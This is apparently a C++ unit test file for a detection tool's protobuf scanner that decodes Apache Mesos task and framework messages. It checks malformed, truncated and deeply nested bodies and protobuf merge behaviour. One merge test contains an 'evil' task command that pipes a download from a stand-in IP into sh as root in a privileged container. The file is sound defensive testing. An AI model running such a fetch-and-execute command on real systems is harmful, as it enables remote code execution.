// The protobuf wire scanner on hostile and damaged bodies.
#include <google/protobuf/descriptor.h>
#include <google/protobuf/dynamic_message.h>
#include <google/protobuf/message.h>
#include <google/protobuf/unknown_field_set.h>
#include <gtest/gtest.h>

#include <memory>

#include "decoders/libprocess/field_writer.h"
#include "decoders/libprocess/mesos.pb.h"
#include "decoders/libprocess/mesos_schema.h"
#include "decoders/libprocess/messages.pb.h"
#include "decoders/libprocess/proto_scan.h"
#include "decoders/libprocess/scheduler.pb.h"
#include "tests/unit/libprocess/mesos_test_support.h"

namespace segward::mesos {
namespace {

using namespace segward::mesos::testing;
namespace m = ::mesos;
namespace mi = ::mesos::internal;

const schema::Node& node_of(std::string_view name) { return *find_libprocess_message(name)->node; }

MesosEvent scan(const Bytes& body, const schema::Node& root, bool* ok = nullptr) {
  MesosEvent e;
  FieldWriter writer(e);
  const ProtoScanResult r = scan_protobuf(span_of(body), root, writer);
  if (ok != nullptr) *ok = r.ok;
  return e;
}

mi::RunTaskMessage full_run_task() {
  mi::RunTaskMessage msg;
  auto* fi = msg.mutable_framework();
  fi->set_user("root");
  fi->set_name("marathon");
  fi->set_principal("marathon-principal");
  msg.set_pid("scheduler-1@10.0.0.3:4000");
  auto* t = msg.mutable_task();
  t->set_name("web");
  t->mutable_task_id()->set_value("web.1");
  t->mutable_command()->set_value("sleep 1000");
  t->mutable_container()->mutable_docker()->set_image("nginx:1");
  t->mutable_container()->mutable_docker()->set_privileged(true);
  return msg;
}

TEST(ProtoScan, UnknownFieldsAreSkippedAtEveryLevel) {
  mi::RunTaskMessage msg = full_run_task();
  auto add_unknowns = [](google::protobuf::Message& target) {
    auto* unknown = target.GetReflection()->MutableUnknownFields(&target);
    unknown->AddVarint(99, 12345);
    unknown->AddFixed32(100, 7);
    unknown->AddFixed64(101, 8);
    unknown->AddLengthDelimited(102, "opaque secret-ish payload");
    auto* group = unknown->AddGroup(103);
    group->AddVarint(1, 1);
    group->AddGroup(2)->AddLengthDelimited(3, "nested");
  };
  add_unknowns(msg);
  add_unknowns(*msg.mutable_framework());
  add_unknowns(*msg.mutable_task());
  add_unknowns(*msg.mutable_task()->mutable_container()->mutable_docker());
  bool ok = false;
  const MesosEvent e = scan(serialize(msg), node_of("mesos.internal.RunTaskMessage"), &ok);
  EXPECT_TRUE(ok);
  EXPECT_EQ(e.framework.name.view(), "marathon");
  EXPECT_EQ(e.framework.principal.view(), "marathon-principal");
  EXPECT_EQ(e.task.name.view(), "web");
  EXPECT_EQ(e.task.command.view(), "sleep 1000");
  EXPECT_EQ(e.task.image.view(), "nginx:1");
  EXPECT_TRUE(e.task.privileged);
  EXPECT_FALSE(event_contains(e, "opaque"));
}

TEST(ProtoScan, UnknownFieldsAppendedAsRawBytes) {
  Bytes body = serialize(full_run_task());
  const Bytes extra = {0xf8, 0x07, 0x01,                    // field 127 varint 1
                       0x82, 0x08, 0x03, 'a', 'b', 'c',     // field 128 length 3
                       0x8d, 0x08, 1, 2, 3, 4,              // field 129 fixed32
                       0x91, 0x08, 1, 2, 3, 4, 5, 6, 7, 8}; // field 130 fixed64
  body.insert(body.begin(), extra.begin(), extra.end());
  body.insert(body.end(), extra.begin(), extra.end());
  bool ok = false;
  const MesosEvent e = scan(body, node_of("mesos.internal.RunTaskMessage"), &ok);
  EXPECT_TRUE(ok);
  EXPECT_EQ(e.task.name.view(), "web");
}

// Every prefix of a body: no crash, no read past it (ASan), a failure
// unless the cut falls on a field boundary, and never a value that is not
// the real one.
TEST(ProtoScan, EveryTruncationKeepsWhatCameBefore) {
  const Bytes body = serialize(full_run_task());
  const MesosEvent full = scan(body, node_of("mesos.internal.RunTaskMessage"));
  std::size_t failures = 0;
  for (std::size_t n = 0; n < body.size(); ++n) {
    const Bytes prefix(body.begin(), body.begin() + static_cast<std::ptrdiff_t>(n));
    bool ok = true;
    const MesosEvent e = scan(prefix, node_of("mesos.internal.RunTaskMessage"), &ok);
    if (!ok) ++failures;
    for (const auto& [got, want] : {std::pair{e.framework.name.view(), full.framework.name.view()},
                                    std::pair{e.framework.user.view(), full.framework.user.view()},
                                    std::pair{e.framework.principal.view(), full.framework.principal.view()},
                                    std::pair{e.task.name.view(), full.task.name.view()},
                                    std::pair{e.task.id.view(), full.task.id.view()},
                                    std::pair{e.task.command.view(), full.task.command.view()},
                                    std::pair{e.task.image.view(), full.task.image.view()},
                                    std::pair{e.detail.view(), full.detail.view()}}) {
      EXPECT_TRUE(got.empty() || got == want) << "cut at " << n << ": '" << got << "'";
    }
  }
  EXPECT_GT(failures, body.size() / 2);

  // Through the public API: a cut body is kBadProtobuf, the fields before the cut stay.
  const Bytes cut(body.begin(), body.end() - 3);
  const MesosEvent e = decode(libprocess("slave(1)", "mesos.internal.RunTaskMessage", cut));
  EXPECT_EQ(e.status, DecodeStatus::kBadProtobuf);
  EXPECT_EQ(e.framework.name.view(), "marathon");
  EXPECT_EQ(e.task.name.view(), "web");
}

TEST(ProtoScan, MalformedWireData) {
  const schema::Node& node = node_of("mesos.internal.RegisterFrameworkMessage");
  const struct {
    const char* what;
    Bytes body;
  } cases[] = {
      {"known field with varint wire type", {0x08, 0x01}},
      {"known string with fixed64 wire type", {0x0a, 0x02, 0x11, 1, 2, 3, 4, 5, 6, 7, 8}},
      {"wire type 6", {0x0e}},
      {"wire type 7", {0x0f}},
      {"field number 0", {0x00, 0x01}},
      {"stray end group", {0xfc, 0x07}},
      {"truncated tag varint", {0x80}},
      {"unterminated varint value", {0xf8, 0x07, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01}},
      {"length beyond the body", {0x0a, 0x05, 0x12, 0x01, 'x'}},
      {"huge length", {0x0a, 0xff, 0xff, 0xff, 0xff, 0x0f}},
      {"inner string beyond its message", {0x0a, 0x03, 0x12, 0x05, 'a', 'b', 'c', 'd', 'e'}},
      {"truncated fixed32", {0x8d, 0x08, 1, 2}},
      {"truncated fixed64", {0x91, 0x08, 1, 2, 3}},
      {"unterminated group", {0xfb, 0x07, 0x08, 0x01}},
  };
  for (const auto& c : cases) {
    bool ok = true;
    scan(c.body, node, &ok);
    EXPECT_FALSE(ok) << c.what;
    const MesosEvent e = decode(libprocess("master", "mesos.internal.RegisterFrameworkMessage", c.body));
    EXPECT_EQ(e.status, DecodeStatus::kBadProtobuf) << c.what;
  }
}

TEST(ProtoScan, FieldsBeforeAnErrorAreKept) {
  // framework { name: "kept" } then garbage.
  Bytes body = {0x0a, 0x06, 0x12, 0x04, 'k', 'e', 'p', 't', 0x0f};
  const MesosEvent e = decode(libprocess("master", "mesos.internal.RegisterFrameworkMessage", body));
  EXPECT_EQ(e.status, DecodeStatus::kBadProtobuf);
  EXPECT_EQ(e.framework.name.view(), "kept");
}

TEST(ProtoScan, DeepUnknownGroupsHitTheRecursionLimit) {
  Bytes body;
  for (int i = 0; i < 200; ++i) body.push_back(0xfb), body.push_back(0x07);  // start group 127
  for (int i = 0; i < 200; ++i) body.push_back(0xfc), body.push_back(0x07);  // end group 127
  bool ok = true;
  scan(body, node_of("mesos.internal.RegisterFrameworkMessage"), &ok);
  EXPECT_FALSE(ok);
  Bytes shallow = {0xfb, 0x07, 0xfb, 0x07, 0xfc, 0x07, 0xfc, 0x07};
  scan(shallow, node_of("mesos.internal.RegisterFrameworkMessage"), &ok);
  EXPECT_TRUE(ok);
}

TEST(ProtoScan, DeepKnownNestingIsBoundedByTheSchema) {
  // ContainerInfo nests no deeper than the schema: a long chain of
  // unknown length-delimited fields is skipped without recursion.
  Bytes inner = {'x'};
  for (int i = 0; i < 1000; ++i) {
    Bytes outer = {0x82, 0x08};  // field 128, length-delimited
    std::size_t n = inner.size();
    do {
      std::uint8_t byte = n & 0x7f;
      n >>= 7;
      if (n != 0) byte |= 0x80;
      outer.push_back(byte);
    } while (n != 0);
    outer.insert(outer.end(), inner.begin(), inner.end());
    inner.swap(outer);
  }
  bool ok = false;
  scan(inner, node_of("mesos.internal.RegisterFrameworkMessage"), &ok);
  EXPECT_TRUE(ok);
}

// Every message type in the table, with every field set (by reflection) at
// every depth: decodes without error, and a cut at every byte never crashes.
void fill(google::protobuf::Message& msg, int depth) {
  const auto* d = msg.GetDescriptor();
  const auto* r = msg.GetReflection();
  for (int i = 0; i < d->field_count(); ++i) {
    const auto* f = d->field(i);
    const int copies = f->is_repeated() ? 2 : 1;
    for (int k = 0; k < copies; ++k) {
      using FD = google::protobuf::FieldDescriptor;
      switch (f->cpp_type()) {
        case FD::CPPTYPE_STRING: {
          const std::string value = f->name() + "-" + std::to_string(k);
          f->is_repeated() ? r->AddString(&msg, f, value) : r->SetString(&msg, f, value);
          break;
        }
        case FD::CPPTYPE_BOOL: f->is_repeated() ? r->AddBool(&msg, f, true) : r->SetBool(&msg, f, true); break;
        case FD::CPPTYPE_INT32: f->is_repeated() ? r->AddInt32(&msg, f, -7) : r->SetInt32(&msg, f, -7); break;
        case FD::CPPTYPE_INT64: f->is_repeated() ? r->AddInt64(&msg, f, 7) : r->SetInt64(&msg, f, 7); break;
        case FD::CPPTYPE_UINT32: f->is_repeated() ? r->AddUInt32(&msg, f, 7) : r->SetUInt32(&msg, f, 7); break;
        case FD::CPPTYPE_UINT64: f->is_repeated() ? r->AddUInt64(&msg, f, 7) : r->SetUInt64(&msg, f, 7); break;
        case FD::CPPTYPE_DOUBLE: f->is_repeated() ? r->AddDouble(&msg, f, 1.5) : r->SetDouble(&msg, f, 1.5); break;
        case FD::CPPTYPE_FLOAT: f->is_repeated() ? r->AddFloat(&msg, f, 1.5f) : r->SetFloat(&msg, f, 1.5f); break;
        case FD::CPPTYPE_ENUM: {
          const auto* value = f->enum_type()->value(f->enum_type()->value_count() - 1);
          f->is_repeated() ? r->AddEnum(&msg, f, value) : r->SetEnum(&msg, f, value);
          break;
        }
        case FD::CPPTYPE_MESSAGE:
          if (depth < 6) fill(f->is_repeated() ? *r->AddMessage(&msg, f) : *r->MutableMessage(&msg, f), depth + 1);
          break;
      }
    }
  }
}

TEST(ProtoScan, EveryMessageTypeFullyPopulated) {
  for (const LibprocessMessageType& type : libprocess_message_types()) {
    const auto* d = google::protobuf::DescriptorPool::generated_pool()->FindMessageTypeByName(std::string(type.name));
    ASSERT_NE(d, nullptr) << type.name;
    std::unique_ptr<google::protobuf::Message> msg(
        google::protobuf::MessageFactory::generated_factory()->GetPrototype(d)->New());
    fill(*msg, 0);
    const Bytes body = serialize(*msg);
    const MesosEvent e = decode(libprocess("master", std::string(type.name), body));
    EXPECT_EQ(e.status, DecodeStatus::kOk) << type.name;
    EXPECT_EQ(e.message.view(), type.name);
    for (std::size_t n = 0; n < body.size(); n += 3) {
      const Bytes prefix(body.begin(), body.begin() + static_cast<std::ptrdiff_t>(n));
      const MesosEvent cut = decode(libprocess("master", std::string(type.name), prefix));
      EXPECT_TRUE(cut.status == DecodeStatus::kOk || cut.status == DecodeStatus::kBadProtobuf) << type.name;
    }
  }
}

}  // namespace
}  // namespace segward::mesos

namespace segward::mesos {
namespace {

using namespace segward::mesos::testing;
namespace m = ::mesos;
namespace mi = ::mesos::internal;

// Protobuf merges a non-repeated message field given twice; Mesos sees the
// merged message, so the decoder must too: decoding the two serializations
// one after the other equals decoding protobuf's own merge of them.
template <class M>
void expect_merge_semantics(const M& first, const M& second) {
  const Bytes a = serialize(first), b = serialize(second);
  Bytes both = a;
  both.insert(both.end(), b.begin(), b.end());
  M merged;
  ASSERT_TRUE(merged.ParseFromArray(both.data(), static_cast<int>(both.size())));
  const std::string name = first.GetTypeName();
  const MesosEvent concatenated = decode(libprocess("slave(1)", name, both));
  const MesosEvent reference = decode(libprocess("slave(1)", name, serialize(merged)));
  EXPECT_EQ(concatenated.status, DecodeStatus::kOk);
  EXPECT_EQ(concatenated.task.count, reference.task.count);
  EXPECT_EQ(concatenated.task.name.view(), reference.task.name.view());
  EXPECT_EQ(concatenated.task.id.view(), reference.task.id.view());
  EXPECT_EQ(concatenated.task.command.view(), reference.task.command.view());
  EXPECT_EQ(concatenated.task.image.view(), reference.task.image.view());
  EXPECT_EQ(concatenated.task.user.view(), reference.task.user.view());
  EXPECT_EQ(concatenated.task.privileged, reference.task.privileged);
  EXPECT_EQ(concatenated.task.host_path.view(), reference.task.host_path.view());
  EXPECT_EQ(concatenated.framework.name.view(), reference.framework.name.view());
  EXPECT_EQ(concatenated.framework.roles.view(), reference.framework.roles.view());
}

TEST(ProtoScan, ASecondTaskOccurrenceIsMergedNotIgnored) {
  // A benign first occurrence must not hide what the second one adds.
  mi::RunTaskMessage benign;
  benign.mutable_task()->set_name("web");
  benign.mutable_task()->mutable_task_id()->set_value("web.1");
  benign.mutable_task()->mutable_command()->set_value("nginx");
  benign.mutable_task()->mutable_container()->mutable_docker()->set_image("nginx:1");
  mi::RunTaskMessage evil;
  evil.mutable_task()->mutable_command()->set_value("curl http://203.0.113.66/x | sh");
  evil.mutable_task()->mutable_command()->set_user("root");
  evil.mutable_task()->mutable_container()->mutable_docker()->set_privileged(true);
  expect_merge_semantics(benign, evil);

  Bytes both = serialize(benign);
  const Bytes b = serialize(evil);
  both.insert(both.end(), b.begin(), b.end());
  const MesosEvent e = decode(libprocess("slave(1)", "mesos.internal.RunTaskMessage", both));
  EXPECT_EQ(e.task.count, 1);
  EXPECT_EQ(e.task.name.view(), "web");
  EXPECT_EQ(e.task.command.view(), "curl http://203.0.113.66/x | sh");
  EXPECT_EQ(e.task.user.view(), "root");
  EXPECT_TRUE(e.task.privileged);
}

TEST(ProtoScan, PrivilegedIsEachContainersLastValue) {
  mi::RunTaskMessage on;
  on.mutable_task()->mutable_container()->mutable_docker()->set_privileged(true);
  mi::RunTaskMessage off;
  off.mutable_task()->mutable_container()->mutable_docker()->set_privileged(false);
  expect_merge_semantics(on, off);  // false: the task's last word
  expect_merge_semantics(off, on);  // true
  Bytes both = serialize(on);
  const Bytes b = serialize(off);
  both.insert(both.end(), b.begin(), b.end());
  EXPECT_FALSE(decode(libprocess("slave(1)", "mesos.internal.RunTaskMessage", both)).task.privileged);

  // Separate tasks, separate containers: any privileged one counts.
  mi::LaunchTasksMessage launch;
  launch.add_tasks()->mutable_container()->mutable_docker()->set_privileged(true);
  launch.add_tasks()->mutable_container()->mutable_docker()->set_privileged(false);
  EXPECT_TRUE(decode(libprocess("master", launch)).task.privileged);
  // A task's executor is its own container.
  mi::RunTaskMessage executor;
  executor.mutable_task()->mutable_executor()->mutable_container()->mutable_docker()->set_privileged(true);
  executor.mutable_task()->mutable_container()->mutable_docker()->set_privileged(false);
  EXPECT_TRUE(decode(libprocess("slave(1)", executor)).task.privileged);
}

TEST(ProtoScan, MergesOfOtherMessages) {
  mi::RunTaskGroupMessage a;
  a.mutable_executor()->mutable_command()->set_value("executor");
  a.mutable_task_group()->add_tasks()->set_name("one");
  a.mutable_framework()->add_roles("r1");
  mi::RunTaskGroupMessage b;
  b.mutable_executor()->mutable_command()->add_arguments("--verbose");
  b.mutable_task_group()->add_tasks()->set_name("two");
  b.mutable_framework()->add_roles("r2");
  b.mutable_framework()->set_name("fw");
  expect_merge_semantics(a, b);

  mi::RegisterFrameworkMessage f1;
  f1.mutable_framework()->set_name("first");
  f1.mutable_framework()->set_role("old");
  mi::RegisterFrameworkMessage f2;
  f2.mutable_framework()->add_roles("new");
  expect_merge_semantics(f1, f2);
}

}  // namespace
}  // namespace segward::mesos
